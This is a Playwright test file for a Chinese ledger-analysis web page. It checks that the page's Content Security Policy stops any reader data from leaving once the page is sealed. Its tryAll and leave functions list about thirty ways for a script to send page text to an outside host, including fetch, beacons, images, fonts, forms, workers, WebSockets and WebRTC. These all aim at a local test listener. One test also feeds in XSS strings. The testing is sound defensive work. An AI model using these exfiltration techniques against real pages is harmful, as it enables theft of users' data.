// The seal: what a reader brings is processed only when the page can send nothing any more. Every way out is tried.

import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { readdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { test } from 'node:test';
import AxeBuilder from '@axe-core/playwright';
import { analyse, done, open as openPage, opened as open, theSite } from './support/page.mjs';

/** Stands for what a reader would not want to see anywhere else. */
const SECRET = '绝密口袋公园七七四十九号';
const LEDGER = `2024年重点任务完成情况\n1. 新建${SECRET}12个。完成情况：建成口袋公园15个。\n2. 改造老旧小区40个。完成情况：改造老旧小区31个。\n`;
const BLOCKED = [/Content Security Policy/, /^foreign: /, /^failed: /];
const sealed = (page) => page.locator('#seal[data-seal=shut]').waitFor({ state: 'attached', timeout: 60_000 });

/** Every request from now on, of the page and of its workers. */
function watched(page) {
  const requests = [];
  const note = (request) => {
    // A file that the page made itself, for saving or for its worker, is no request to anyone.
    if (!/^(blob|data):/.test(request.url())) requests.push(request.url());
  };
  page.context().on('request', note);
  page.on('websocket', (socket) => requests.push(socket.url()));
  return requests;
}

const choose = async (page, name, buffer) => {
  await page.locator('#file').setInputFiles({ name, mimeType: 'application/octet-stream', buffer });
  return done(page);
};

test('from the first byte the page may ask its own host alone, and run no script that stands in it', async () => {
  const { url } = await theSite();
  const html = await (await fetch(url)).text();
  const policy = html.match(/http-equiv="Content-Security-Policy" content="([^"]+)"/)[1];
  const directives = Object.fromEntries(policy.split('; ').map((directive) => [directive.split(' ')[0], directive.split(' ').slice(1)]));
  assert.deepEqual(directives, {
    'default-src': ["'none'"],
    'script-src': ["'self'", "'wasm-unsafe-eval'"],
    'style-src': ["'self'"],
    'img-src': ["'self'", 'data:', 'blob:'],
    'connect-src': ["'self'"],
    'worker-src': ["'self'", 'blob:'],
    'base-uri': ["'none'"],
    'form-action': ["'none'"],
  });
  // Before it there is nothing that could ask for anything.
  assert.match(html, /^<!doctype html>\s*<html[^>]*>\s*<head>\s*<meta charset="utf-8">\s*<meta http-equiv="Content-Security-Policy"/i);
});

test('the page seals itself after its first view, and says so', async (t) => {
  const page = await open(t);
  await sealed(page);
  const summary = page.locator('#seal summary');
  assert.match(await summary.innerText(), /网络已封闭/);
  await summary.click();
  const told = await page.locator('#seal').innerText();
  for (const part of ['内容安全策略', '打开新窗口、离开本页、WebRTC', '浏览器扩展', '换上别的程序']) assert.ok(told.includes(part), part);
  await page.locator('.snippet summary').click();
  assert.deepEqual((await new AxeBuilder({ page }).include('footer').analyze()).violations, []);
  await page.locator('#lang').click();
  await done(page);
  assert.match(await summary.innerText(), /sealed/);
  assert.match(await page.locator('#seal').innerText(), /browser extensions/);
});

test('paste, every format, both languages, giving up and starting anew: after the seal nothing is asked of anyone', async (t) => {
  const page = await open(t);
  await sealed(page);
  const requests = watched(page);
  const served = await theSite().then(({ requests }) => (requests.splice(0), requests));
  assert.equal(await analyse(page, LEDGER), 'ready');
  const documents = readdirSync('tests/documents').filter((name) => !/\.(md|py)$/.test(name));
  assert.ok(documents.length >= 40);
  const formats = new Set();
  for (const name of documents) {
    const state = await choose(page, name, readFileSync(join('tests/documents', name)));
    if (state === 'ready') formats.add((await page.locator('.recognised').innerText()).match(/（(\w+)）/)?.[1]);
  }
  assert.deepEqual([...formats].filter(Boolean).sort(), ['csv', 'doc', 'docx', 'html', 'ods', 'odt', 'pdf', 'rtf', 'txt', 'xls', 'xlsx']);
  await page.locator('#file').setInputFiles(['a.docx', 'b.xlsx'].map((name) => ({ name, mimeType: '', buffer: readFileSync(`tests/documents/qingdao-2024${name.slice(1)}`) })));
  await done(page);
  await page.locator('#sample').click();
  await done(page);
  for (const _ of [1, 2]) {
    await page.locator('#lang').click();
    assert.equal(await done(page), 'ready');
  }
  await page.getByRole('button', { name: '长辈版' }).click();
  assert.deepEqual([requests, served], [[], []]);
});

test('exports, copies, links, comparison, corrections and the method: after the seal nothing is asked of anyone', async (t) => {
  const page = await open(t, { permissions: ['clipboard-read', 'clipboard-write'] });
  await sealed(page);
  const requests = watched(page);
  const served = await theSite().then(({ requests }) => (requests.splice(0), requests));
  assert.equal(await analyse(page, LEDGER.replace('2024', '2023')), 'ready');
  assert.equal(await analyse(page, LEDGER), 'ready');
  await page.locator('#compare').selectOption({ index: 1 });
  await page.locator('.pairs').waitFor();
  await page.locator('#dots-chart > summary').click();
  const names = [];
  for (const button of ['#save-csv', '#save-xlsx', '#save-json', '#save-dots-svg', '#save-dots-png']) {
    const download = page.waitForEvent('download');
    await page.locator(button).click();
    names.push((await download).suggestedFilename().split('.').pop());
  }
  assert.deepEqual(names, ['csv', 'xlsx', 'json', 'svg', 'png']);
  for (const button of ['#copy-md', '#copy-html', '#link-view']) {
    await page.locator(button).click();
    await page.locator('.said', { hasText: '已复制' }).waitFor();
  }
  await page.locator('#link-data').click();
  await page.locator('#data-link').waitFor();
  await page.locator('.method summary').first().click();
  await page.locator('#near').fill('0');
  assert.equal(await done(page), 'ready');
  const row = page.locator('#item-1');
  await row.locator('.evidence > summary').click();
  await row.locator('.correct').click();
  await row.locator('.set-verdict').selectOption('missed');
  await row.locator('.by-hand').waitFor();
  assert.deepEqual([requests, served], [[], []]);
  // The link was asked for, and is in no address until somebody goes to it.
  for (const address of [page.url(), ...page.frames().map((frame) => frame.url())]) assert.ok(!decodeURIComponent(address).includes(SECRET));
  assert.ok(!(await page.title()).includes(SECRET));
});

test('a ledger that comes before the program waits for it and for the seal', async (t) => {
  let release;
  const held = new Promise((resolve) => (release = resolve));
  const page = await openPage(t, { path: 'package.json', expected: [/404/] });
  await page.context().route('**/files_bg.wasm', async (route) => (await held, route.continue().catch(() => {})));
  await page.goto((await theSite()).url);
  await page.locator('#text').fill(LEDGER);
  await page.locator('#analyze').click();
  // It waits, and says so; the page can still be told to stop.
  await page.locator('.work progress').waitFor();
  assert.equal(await page.locator('#seal').getAttribute('data-seal'), 'open');
  assert.equal(page.workers().length, 0);
  const seen = await page.evaluate(() => {
    // The order of things from here on: the seal, then a worker.
    const order = [];
    new MutationObserver((changes) => changes.forEach(({ addedNodes }) => addedNodes.forEach((node) => node.httpEquiv && order.push('seal'))))
      .observe(document.head, { childList: true });
    const { Worker } = globalThis;
    globalThis.Worker = class extends Worker {
      constructor(...given) {
        order.push(`worker after ${document.querySelectorAll('meta[http-equiv]').length} policies`);
        super(...given);
      }
    };
    return (globalThis.order = order), order;
  });
  assert.deepEqual(seen, []);
  release();
  assert.equal(await done(page), 'ready');
  await page.getByText(SECRET).first().waitFor();
  assert.deepEqual(await page.evaluate(() => globalThis.order), ['seal', 'worker after 2 policies', 'worker after 2 policies']);
});

test('a program that does not arrive is told, and asked for again', async (t) => {
  const page = await openPage(t, { path: '?', expected: [/failed: .*_bg\.wasm/, /ERR_FAILED/] });
  await page.context().route('**/*_bg.wasm', (route) => (/app_bg/.test(route.request().url()) ? route.continue() : route.abort()));
  await page.reload();
  await done(page);
  assert.equal(await analyse(page, LEDGER), 'error');
  assert.match(await page.getByRole('alert').innerText(), /没有加载成功/);
  await page.context().unroute('**/*_bg.wasm');
  assert.equal(await analyse(page, LEDGER), 'ready');
  await sealed(page);
});

test('what a reader brings is in no address, title or cache, and stored only where the page says so', async (t) => {
  const page = await open(t);
  await sealed(page);
  await analyse(page, LEDGER);
  await choose(page, `${SECRET}.txt`, Buffer.from(LEDGER));
  await page.locator('input[type=search]').first().fill(SECRET);
  await page.getByRole('button', { name: '深色' }).click();
  const kept = await page.evaluate(async () => {
    const caches_ = await Promise.all((await caches.keys()).map(async (name) => (await (await caches.open(name)).keys()).map(({ url }) => url)));
    const databases = await indexedDB.databases();
    const links = [...document.querySelectorAll('[href], [src], [action]')].map((element) => element.getAttribute('href') ?? element.getAttribute('src') ?? element.getAttribute('action'));
    // The box keeps its text, says so, and can be told not to.
    const { 'taizhang.text': box, ...stored } = localStorage;
    return JSON.stringify([location.href, document.title, document.cookie, history.state, name, stored, { ...sessionStorage }, caches_, databases, links]);
  });
  assert.ok(!decodeURIComponent(kept).includes('口袋公园'), kept);
});

test('text that looks like markup or a link stays text', async (t) => {
  const page = await open(t, { expected: [] });
  const nasty = '<img src=x onerror=alert(1)><a href="javascript:alert(2)">公园</a><script>alert(3)</script>';
  await analyse(page, `${nasty}台账\n序号\t事项内容\t完成情况\n1\t新建${nasty}12个。\t建成${nasty}15个。\n${nasty}\t\t\n`);
  await page.getByText('onerror=alert(1)').first().waitFor();
  assert.equal(await page.locator('#app img, #app script, #app a[href*="javascript"]').count(), 0);
});

/** Ways to send something out, each tried by a script that runs in the page. The names are what the listening host would hear. */
async function tryAll([target, socket, stun]) {
  const at = (name) => `${target}${name}?${encodeURIComponent(document.body.innerText.slice(0, 40))}`;
  const add = (tag, fields) => document.head.appendChild(Object.assign(document.createElement(tag), fields));
  const attempts = {
    fetch: () => fetch(at('fetch'), { mode: 'no-cors' }),
    keepalive: () => fetch(at('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
    xhr: () => new Promise((end) => { const request = new XMLHttpRequest(); request.onloadend = end; request.open('GET', at('xhr')); request.send(); }),
    websocket: () => new Promise((end) => { new WebSocket(`${socket}websocket`).onclose = end; }),
    eventsource: () => new Promise((end) => { new EventSource(at('eventsource')).onerror = end; }),
    webtransport: () => new WebTransport(target.replace('http:', 'https:')).ready,
    beacon: () => navigator.sendBeacon(at('beacon'), 'x'),
    image: () => new Promise((end) => { const image = new Image(); image.onload = image.onerror = end; image.src = at('image'); }),
    css: () => { document.body.style.backgroundImage = `url("${at('css')}")`; },
    font: () => new FontFace('leak', `url("${at('font')}")`).load(),
    stylesheet: () => add('link', { rel: 'stylesheet', href: at('stylesheet') }),
    script: () => add('script', { src: at('script') }),
    inline: () => add('script', { textContent: `fetch(${JSON.stringify(at('inline'))})` }),
    import: () => import(at('import')),
    prefetch: () => add('link', { rel: 'prefetch', href: at('prefetch') }),
    preload: () => add('link', { rel: 'preload', as: 'image', href: at('preload') }),
    modulepreload: () => add('link', { rel: 'modulepreload', href: at('modulepreload') }),
    preconnect: () => add('link', { rel: 'preconnect', href: at('preconnect') }),
    manifest: () => add('link', { rel: 'manifest', href: at('manifest') }),
    icon: () => add('link', { rel: 'icon', href: at('icon') }),
    iframe: () => add('iframe', { src: at('iframe') }),
    object: () => add('object', { data: at('object') }),
    media: () => add('video', { src: at('media') }),
    form: () => add('form', { action: at('form'), method: 'post', target: '_blank' }).submit(),
    ping: () => add('a', { href: '#ping', ping: at('ping') }).click(),
    open: () => window.open(at('open')),
    worker: () => new Worker(at('worker')),
    blobWorker: () => new Promise((end) => {
      const code = `fetch(${JSON.stringify(at('blobWorker'))}, { mode: 'no-cors' }).finally(() => postMessage(0)); importScripts(${JSON.stringify(at('importScripts'))})`;
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.onmessage = worker.onerror = end;
    }),
    serviceWorker: () => navigator.serviceWorker.register(`${location.pathname}other-sw.js`),
    webrtc: async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((end) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && end(); });
    },
  };
  const limit = () => new Promise((end) => setTimeout(end, 1500));
  await Promise.all(Object.values(attempts).map(async (attempt) => {
    try {
      await Promise.race([attempt(), limit()]);
    } catch {
      // Refused.
    }
  }));
}

/** Ways to leave the page with something. */
async function leave([target]) {
  const at = (name) => `${target}${name}?${encodeURIComponent(document.body.innerText.slice(0, 40))}`;
  const add = (tag, fields) => document.head.appendChild(Object.assign(document.createElement(tag), fields));
  const attempts = [
    () => add('form', { action: at('leave-form') }).submit(),
    () => { location.href = at('leave-address'); },
    () => location.assign(at('leave-assign')),
    () => add('a', { href: at('leave-anchor') }).click(),
    () => add('meta', { httpEquiv: 'refresh', content: `0;url=${at('leave-refresh')}` }),
  ];
  for (const attempt of attempts) {
    try {
      attempt();
    } catch {
      // Refused.
    }
    await new Promise((end) => setTimeout(end, 300));
  }
}

/** A host that listens to everything, and what it heard. */
async function listening(t) {
  const heard = new Set();
  const note = (name) => heard.add(name.replace(/^\//, '').split('?')[0]);
  const server = createServer((request, response) => (note(request.url), response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end()));
  server.on('upgrade', (request, socket) => (note(request.url), socket.destroy()));
  const stun = createSocket('udp4');
  stun.on('message', () => note('webrtc'));
  await new Promise((ready) => server.listen(0, '127.0.0.1', ready));
  await new Promise((ready) => stun.bind(0, '127.0.0.1', ready));
  t.after(() => (server.closeAllConnections(), server.close(), stun.close()));
  const { port } = server.address();
  return { heard, given: [`http://127.0.0.1:${port}/`, `ws://127.0.0.1:${port}/`, `stun:127.0.0.1:${stun.address().port}`] };
}

test('a page without the seal lets these out, so the trial can fail', { timeout: 60_000 }, async (t) => {
  const page = await openPage(t, { path: 'package.json', expected: [/./] });
  const { heard, given } = await listening(t);
  await page.evaluate(tryAll, given);
  const ways = [
    'fetch', 'keepalive', 'xhr', 'websocket', 'eventsource', 'beacon', 'image', 'font', 'script', 'import', 'prefetch', 'iframe', 'form', 'ping',
    'open', 'blobWorker', 'importScripts', 'webrtc',
  ];
  while (!ways.every((name) => heard.has(name))) await page.evaluate(() => new Promise(requestAnimationFrame));
  await page.evaluate(leave, given).catch(() => {});
  while (![...heard].some((name) => name.startsWith('leave'))) await new Promise(setImmediate);
});

test('every way out is shut once the page is sealed, from the page and from its worker', async (t) => {
  const page = await open(t, { expected: BLOCKED.concat(/./) });
  await sealed(page);
  await analyse(page, LEDGER);
  const { heard, given } = await listening(t);
  const served = await theSite().then(({ requests }) => (requests.splice(0), requests));
  const here = page.url();
  await page.evaluate(tryAll, given);  assert.deepEqual([...heard], []);
  assert.equal(page.url().split('#')[0], here.split('#')[0], 'it stayed where it was');
  assert.match(await page.locator('tbody').innerText(), new RegExp(SECRET));
  // The same to its own host.
  const { url } = await theSite();
  const port = new URL(url).port;
  await page.evaluate(tryAll, [url, `ws://127.0.0.1:${port}/`, given[2]]);
  assert.equal(page.workers().length >= 2, true);
  for (const worker of page.workers()) {
    await worker.evaluate(async ([target, socket]) => {
      await fetch(`${target}worker`, { mode: 'no-cors' }).catch(() => {});
      try {
        importScripts(`${target}importScripts`);
      } catch {
        // Refused.
      }
      await new Promise((end) => {
        try {
          new WebSocket(`${socket}workerSocket`).onclose = end;
          setTimeout(end, 1500);
        } catch {
          end();
        }
      });
    }, given);
  }
  assert.deepEqual([...heard], []);
  assert.deepEqual(served, []);
});
